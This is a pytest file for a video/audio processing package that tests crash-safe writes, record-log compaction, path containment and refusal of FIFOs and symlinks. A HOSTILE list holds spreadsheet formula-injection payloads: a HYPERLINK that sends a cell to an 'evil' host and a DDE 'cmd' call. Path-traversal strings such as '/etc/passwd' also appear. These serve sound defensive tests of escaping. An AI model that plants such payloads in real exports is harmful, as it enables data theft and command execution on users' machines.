"""Crash-safe writes, the per-stage record log and its compaction, CSV cells a spreadsheet cannot
run, paths that cannot leave WORK, and readers that refuse a FIFO or device."""

from __future__ import annotations

import csv
import json
import os
import signal
import subprocess
import sys
import textwrap
from pathlib import Path

import numpy as np
import pandas as pd
import pyarrow.parquet as pq
import pytest

from avfuse.extract import ExtractConfig, extract
from avfuse.io import (
    TMP_MARK,
    PathEscapeError,
    RecordLog,
    atomic_dir,
    atomic_write,
    csv_cell,
    csv_uncell,
    read_json,
    read_table,
    remove_stale_temporaries,
    safe_join,
    table_metadata,
    write_csv,
    write_json,
    write_table,
)
from avfuse.lock import work_lock
from avfuse.manifest import ScanConfig, scan
from avfuse.workdir import RecordLogLayout
from tests.commands import one_line_error, run_avfuse_alone, run_python
from tests.media import write_tone_video
from tests.workfolders import outside_file, scanned_small


def test_atomic_write_replaces_only_on_success(tmp_path) -> None:
    target = tmp_path / "sub" / "out.txt"
    with atomic_write(target) as tmp:
        assert tmp.parent == target.parent and TMP_MARK in tmp.name
        assert tmp.suffix == ".txt"  # libraries that pick a format by suffix still work
        tmp.write_text("first")
        assert not target.exists()  # nothing visible before the rename
    assert target.read_text() == "first"

    with pytest.raises(RuntimeError), atomic_write(target) as tmp:
        tmp.write_text("half")
        raise RuntimeError("killed mid-write")
    assert target.read_text() == "first"
    assert sorted(p.name for p in target.parent.iterdir()) == ["out.txt"]


def test_remove_stale_temporaries(tmp_path) -> None:
    (tmp_path / "a" / "b").mkdir(parents=True)
    stale = tmp_path / "a" / "b" / f".x.flac{TMP_MARK}123-abcd.flac"
    stale.write_bytes(b"partial")
    keep = tmp_path / "a" / "b" / "x.flac"
    keep.write_bytes(b"complete")
    assert remove_stale_temporaries(tmp_path) == 1
    assert not stale.exists() and keep.exists()
    assert remove_stale_temporaries(tmp_path / "does-not-exist") == 0


def test_json_and_table_round_trip(tmp_path) -> None:
    write_json(tmp_path / "a.json", {"b": 1, "a": [1, 2]})
    assert read_json(tmp_path / "a.json") == {"a": [1, 2], "b": 1}
    assert json.loads((tmp_path / "a.json").read_text()) == {"a": [1, 2], "b": 1}

    df = pd.DataFrame({"video_id": ["b", "a"], "x": [1.5, 2.5]})
    write_table(df, tmp_path / "t.parquet", {"sample_rate": "16000"})
    pd.testing.assert_frame_equal(read_table(tmp_path / "t.parquet"), df)
    assert table_metadata(tmp_path / "t.parquet") == {"sample_rate": "16000"}
    raw = pq.read_table(tmp_path / "t.parquet")  # plain Parquet for any reader
    assert raw.column("video_id").to_pylist() == ["b", "a"]


def test_record_log_newest_record_wins(tmp_path) -> None:
    log = RecordLog(tmp_path / "parts")
    assert log.read().num_rows == 0 and log.parts() == []
    assert log.write([]) is None
    log.write([{"video_id": "a", "status": "unreadable"}, {"video_id": "b", "status": "ok"}])
    log.write([{"video_id": "a", "status": "ok"}, {"video_id": "c", "status": "no_audio"}])
    assert len(log.parts()) == 2
    df = log.read().to_pandas().set_index("video_id")
    assert df["status"].to_dict() == {"a": "ok", "b": "ok", "c": "no_audio"}

    # A part being written when the process died is not read.
    (tmp_path / "parts" / f".part-9{TMP_MARK}1-x.parquet").write_bytes(b"garbage")
    assert sorted(log.read().column("video_id").to_pylist()) == ["a", "b", "c"]

    log.clear()
    assert log.read().num_rows == 0 and log.parts() == []


def test_record_log_reads_columns_across_parts_of_different_shapes(tmp_path) -> None:
    """Many parts join in Arrow: a column missing or all-null in one part, newest wins."""
    log = RecordLog(tmp_path / "parts")
    log.write([{"video_id": f"v{i}", "status": "ok", "n": i} for i in range(5)])
    log.write([{"video_id": "v1", "status": "error", "n": None, "reason": "boom"}])
    log.write([{"video_id": "v7", "status": "ok"}])  # no "n", no "reason"
    df = log.read(["status", "reason"]).to_pandas().set_index("video_id")
    assert list(df.columns) == ["status", "reason"]
    assert df["status"].to_dict() == {
        "v0": "ok", "v2": "ok", "v3": "ok", "v4": "ok", "v1": "error", "v7": "ok"
    }  # fmt: skip
    assert df.loc["v1", "reason"] == "boom" and pd.isna(df.loc["v7", "reason"])
    full = log.read().to_pandas().set_index("video_id")
    assert full.loc["v3", "n"] == 3 and pd.isna(full.loc["v7", "n"])
    compacted = log.compact()
    assert len(log.parts()) == 1
    assert log.read().equals(compacted)
    assert log.read(["status"]).column_names == ["video_id", "status"]
    empty = RecordLog(tmp_path / "empty")
    assert empty.read(["status"]).column_names == ["video_id", "status"]
    assert empty.read().num_rows == empty.compact().num_rows == 0


def test_error_reason_is_one_bounded_line_naming_the_type() -> None:
    from avfuse.io import error_reason

    assert error_reason(OSError("bad\n  packet\tat 3 s")) == "OSError: bad packet at 3 s"
    assert error_reason(ValueError()) == "ValueError: ValueError"
    assert len(error_reason(RuntimeError("x" * 1000))) == 300


# --------------------------------------------------------------- CSV cells a spreadsheet cannot run


# What a spreadsheet runs: =, +, -, @ and, in some importers, a leading tab or carriage return.
HOSTILE = [
    '=HYPERLINK("http://evil/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''+twice",
]
HARMLESS = ["plain", "it's", "'quoted", "a=b", "", "x-y"]


def _cells(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as fh:
        return [c for row in csv.reader(fh) for c in row]


def _assert_inert(path: Path) -> None:
    bad = [c for c in _cells(path) if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # Numbers are not text cells: a negative score may start with "-".
    bad = [c for c in bad if not _is_number(c)]
    assert bad == [], path


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("text", HOSTILE + HARMLESS)
def test_cell_escaping_round_trips(text: str) -> None:
    cell = csv_cell(text)
    assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r")
    assert csv_uncell(cell) == text
    if text in HARMLESS:
        assert cell == text  # nothing to escape: written as it is


def test_write_csv_escapes_cells_and_headers_but_not_numbers(tmp_path: Path) -> None:
    df = pd.DataFrame({"=name": HOSTILE, "score": np.linspace(-1, 1, len(HOSTILE))})
    path = write_csv(df, tmp_path / "x.csv")
    _assert_inert(path)
    back = pd.read_csv(path, keep_default_na=False)
    assert [csv_uncell(c) for c in back.columns] == ["=name", "score"]
    assert [csv_uncell(v) for v in back.iloc[:, 0]] == HOSTILE
    assert np.allclose(back["score"], df["score"])


# ------------------------------------------------------------------ readers refuse a FIFO or device


_READERS = """
import json, sys
from avfuse.config import read_mapping
from avfuse.safe_pickle import load_torch
from avfuse.scores import ScoreFile
from avfuse.video_scores import read_one
out = {}
for name, fn in [("config", read_mapping), ("checkpoint", load_torch),
                 ("scores", ScoreFile.load), ("video", read_one)]:
    try:
        fn(sys.argv[1])
        out[name] = "read"
    except (OSError, ValueError) as exc:
        out[name] = str(exc)
print(json.dumps(out))
"""


@pytest.mark.parametrize("kind", ["fifo", "device"])
def test_every_reader_refuses_a_pipe_or_device_at_once(tmp_path: Path, kind: str) -> None:
    if kind == "fifo":
        path = tmp_path / "named.pipe"
        os.mkfifo(path)
    else:
        path = tmp_path / "zero.toml"
        path.symlink_to("/dev/zero")
    out = run_python(_READERS, str(path))
    assert out.returncode == 0, out.stderr
    seen = json.loads(out.stdout)
    assert set(seen) == {"config", "checkpoint", "scores", "video"}
    for name, message in seen.items():
        assert path.name in message and "not a regular file" in message, (name, message)
        assert ("FIFO" if kind == "fifo" else "device") in message, (name, message)


# ----------------------------------------------------------------------- a kill between the renames


def test_a_kill_between_the_renames_brings_the_old_folder_back(tmp_path: Path) -> None:
    out = tmp_path / "fusion"
    with atomic_dir(out) as tmp:
        (tmp / "a.txt").write_text("old")
    # What a kill after moving the old folder aside and before moving the new one in leaves:
    os.rename(out, tmp_path / ".fusion.old-1-abc")
    (tmp_path / f".fusion{TMP_MARK}1-def").mkdir()
    with pytest.raises(RuntimeError), atomic_dir(out):
        raise RuntimeError("stop before the new folder is complete")
    assert (out / "a.txt").read_text() == "old"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["fusion"]


# --------------------------------------------------------------------------------------- compaction


REPO = Path(__file__).resolve().parents[1]


def test_compact_keeps_the_newest_record_of_each_video_in_one_part(tmp_path) -> None:
    rlog = RecordLog(tmp_path / "parts")
    expected: dict[str, int] = {}
    for batch in range(6):
        rows = [
            {"video_id": f"v{i:02d}", "value": batch * 100 + i} for i in range(batch, batch + 4)
        ]
        rlog.write(rows)
        expected.update({r["video_id"]: r["value"] for r in rows})
    assert len(rlog.parts()) == 6

    df = rlog.compact().to_pandas()
    assert len(rlog.parts()) == 1 and RecordLogLayout.is_compacted(rlog.parts()[0])
    assert dict(zip(df["video_id"], df["value"])) == expected
    again = rlog.read().to_pandas()
    assert dict(zip(again["video_id"], again["value"])) == expected

    # A part logged after the compaction still wins; compacting again folds it in.
    rlog.write([{"video_id": "v00", "value": -1}])
    assert rlog.read().to_pandas().set_index("video_id").loc["v00", "value"] == -1
    rlog.compact()
    assert len(rlog.parts()) == 1
    final = rlog.read().to_pandas()
    assert final["video_id"].is_unique
    assert dict(zip(final["video_id"], final["value"])) == {**expected, "v00": -1}


def _clips(root: Path, n: int) -> set[str]:
    ids = set()
    for i in range(n):
        write_tone_video(
            root / "train" / f"class{i % 2}" / f"c{i:02d}.mkv",
            freq=300.0 + 50 * i,
            duration=0.3,
            codec="pcm_s16le",
            rate=16000,
            channels=1,
            video=False,
        )
        ids.add(f"train/class{i % 2}/c{i:02d}")
    return ids


# Where the driver is killed: in the rename of the compacted part (it is not in place yet),
# at the first delete of a covered part (compacted part in place, every old part left), and
# in the middle of the deletes.
KILL_POINTS = {
    "before_rename": ("replace", 1),
    "after_rename": ("unlink", 1),
    "mid_delete": ("unlink", 4),
}


@pytest.mark.parametrize("point", sorted(KILL_POINTS))
def test_sigkill_mid_compaction_then_rerun_records_every_video_once(tmp_path, point) -> None:
    ids = _clips(tmp_path / "data", 8)
    work = tmp_path / "work"
    scan(ScanConfig(root=tmp_path / "data", work=work))
    what, nth = KILL_POINTS[point]
    # A real process, killed by SIGKILL from inside the compaction at the chosen call.
    script = textwrap.dedent(
        f"""
        import os, pathlib, signal
        from avfuse import io
        from avfuse.extract import ExtractConfig, extract
        from avfuse.workdir import RecordLogLayout
        calls = [0]
        def hit():
            calls[0] += 1
            if calls[0] == {nth}:
                os.kill(os.getpid(), signal.SIGKILL)
        if {what!r} == "replace":
            real_replace = os.replace
            def replace(src, dst):
                if RecordLogLayout.COMPACTED in str(dst):
                    hit()
                return real_replace(src, dst)
            io.os.replace = replace
        else:
            real_unlink = pathlib.Path.unlink
            def unlink(self, *a, **k):
                if self.name.startswith("part-"):
                    hit()
                return real_unlink(self, *a, **k)
            pathlib.Path.unlink = unlink
        extract(ExtractConfig(work={str(work)!r}, num_workers=0, batch_size=1, progress=False))
        """
    )
    proc = subprocess.run(
        [sys.executable, "-c", script],
        env=dict(os.environ, PYTHONPATH=str(REPO / "src")),
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert proc.returncode == -signal.SIGKILL, proc.stderr
    parts = RecordLog(work / "extract" / "parts")
    assert len(parts.parts()) >= 2  # killed before the compaction finished
    logged = parts.read().to_pandas()
    assert sorted(logged["video_id"]) == sorted(ids)

    res = extract(ExtractConfig(work=work, num_workers=0, batch_size=1, progress=False))
    assert res.processed == 0 and res.skipped == len(ids)  # resumed: nothing decoded again
    assert sorted(res.table["video_id"]) == sorted(ids)
    assert set(res.table["status"]) == {"ok"}
    table = read_table(work / "extract.parquet")
    assert table["video_id"].is_unique and sorted(table["video_id"]) == sorted(ids)
    assert len(parts.parts()) == 1  # the rerun finished the compaction
    final = parts.read().to_pandas()
    assert final["video_id"].is_unique and sorted(final["video_id"]) == sorted(ids)
    pd.testing.assert_frame_equal(
        final.sort_values("video_id").reset_index(drop=True)[list(table.columns)],
        table.reset_index(drop=True),
    )


# ---------------------------------------------------------------------------- paths that leave WORK


def test_safe_join_refuses_paths_leaving_work(tmp_path: Path) -> None:
    work = tmp_path / "work"
    assert safe_join(work, "audio/train/a/x.flac") == work / "audio/train/a/x.flac"
    for bad in ("audio/../../x.flac", "/etc/passwd", "audio/\0x", "..", "."):
        with pytest.raises(PathEscapeError):
            safe_join(work, bad)


# -------------------------------------------------------------------------- links and planted names


PRECIOUS = b"someone else's file\n"


def test_outputs_linked_outside_are_replaced_not_written_through(tmp_path: Path) -> None:
    work = scanned_small(tmp_path)
    victims = {}
    for name in ("extract.parquet", "extract_failures.csv", "extract.toml", "manifest.parquet"):
        victims[name] = outside_file(tmp_path, name + ".victim")
        (work / name).unlink(missing_ok=True)
        (work / name).symlink_to(victims[name])
    # scan rewrites the manifest; extract its table, failures and settings.
    out = run_avfuse_alone(["scan", str(tmp_path / "data"), "-o", str(work)], tmp_path)
    assert out.returncode == 0, out.stderr
    out = run_avfuse_alone(["extract", str(work), "--num-workers", "0", "--no-progress"], tmp_path)
    assert out.returncode == 0, out.stderr
    for name, victim in victims.items():
        assert victim.read_bytes() == PRECIOUS, name
        assert not (work / name).is_symlink() and (work / name).stat().st_size > 0


def test_a_folder_linked_outside_the_work_folder_is_never_written_into(tmp_path: Path) -> None:
    work = scanned_small(tmp_path)
    outside = tmp_path / "outside_dir"
    outside.mkdir()
    (work / "scores").symlink_to(outside, target_is_directory=True)
    with work_lock(work), pytest.raises(PathEscapeError) as info:
        write_json(work / "scores" / "x.json", {"a": 1})
    assert "x.json" in str(info.value) and "leads out of the work folder" in str(info.value)
    assert list(outside.iterdir()) == []
    # The audio folder of extract: refused before anything is written or deleted there.
    (work / "audio").symlink_to(outside, target_is_directory=True)
    planted = outside / "train" / "a" / ".x1.flac.tmp-1-deadbeef.flac"  # looks like ours
    planted.parent.mkdir(parents=True)
    planted.write_bytes(PRECIOUS)
    line = one_line_error(run_avfuse_alone(["extract", str(work), "--num-workers", "0"], tmp_path))
    assert "leads out of the work folder" in line and "audio" in line
    assert [p for p in outside.rglob("*") if p.is_file()] == [planted]
    assert planted.read_bytes() == PRECIOUS
    # A record log whose folder links out is not cleared through the link.
    parts = outside / "parts"
    parts.mkdir()
    (parts / "part-1.parquet").write_bytes(PRECIOUS)
    (work / "extract").mkdir(exist_ok=True)
    (work / "extract" / "parts").symlink_to(parts, target_is_directory=True)
    with work_lock(work), pytest.raises(PathEscapeError):
        RecordLog(work / "extract" / "parts").clear()
    assert (parts / "part-1.parquet").read_bytes() == PRECIOUS
    (work / "extract" / "parts").unlink()
    (work / "audio").unlink()
    out = run_avfuse_alone(["extract", str(work), "--num-workers", "0", "--no-progress"], tmp_path)
    assert out.returncode == 0, out.stderr
    assert len(list((work / "audio").rglob("*.flac"))) == 3


def test_a_temporary_name_planted_in_advance_is_not_followed(tmp_path: Path) -> None:
    victim = outside_file(tmp_path)
    target = tmp_path / "w" / "out.json"
    target.parent.mkdir()
    # Plant every name atomic_write could pick by patching its randomness to a known value.
    import uuid

    class _Fixed:
        hex = "0" * 32

    real = uuid.uuid4
    uuid.uuid4 = lambda: _Fixed()  # type: ignore[assignment,return-value]
    try:
        tmp_name = target.with_name(f".out.json.tmp-{os.getpid()}-00000000.json")
        tmp_name.symlink_to(victim)
        with pytest.raises(FileExistsError):
            write_json(target, {"a": 1})
    finally:
        uuid.uuid4 = real  # type: ignore[assignment]
    assert victim.read_bytes() == PRECIOUS
    assert tmp_name.is_symlink()  # not ours: left alone
    with atomic_write(target) as tmp:
        assert tmp.stat().st_size == 0 and not tmp.is_symlink()
        tmp.write_text("{}")
    assert target.read_text() == "{}"
